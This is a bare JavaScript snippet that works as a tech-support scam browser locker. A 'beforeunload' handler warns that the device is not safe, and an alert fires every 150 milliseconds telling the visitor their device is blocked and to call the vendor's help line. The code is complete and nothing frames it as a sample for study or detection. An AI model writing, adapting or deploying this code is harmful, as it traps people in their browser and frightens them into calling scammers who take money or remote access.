window.addEventListener('beforeunload', function (event) {
  event.returnValue = 'Your device is not safe';
});
setInterval(function () {
  alert('Your device was blocked. Call the help line of the vendor now.');
}, 150);
